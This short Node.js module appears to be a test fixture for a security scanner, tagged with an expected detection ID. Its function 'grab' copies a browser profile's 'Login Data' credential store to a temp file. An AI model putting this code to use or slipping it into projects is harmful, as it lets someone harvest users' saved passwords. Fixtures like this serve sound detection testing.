const fs = require("fs");
const os = require("os");
const path = require("path");
module.exports = function grab(profile) {
  const copy = path.join(os.tmpdir(), "ld.db");
  // pi-expect: SEC-CREDREAD-001
  fs.copyFileSync(path.join(profile, "Login Data"), copy);
  return copy;
};
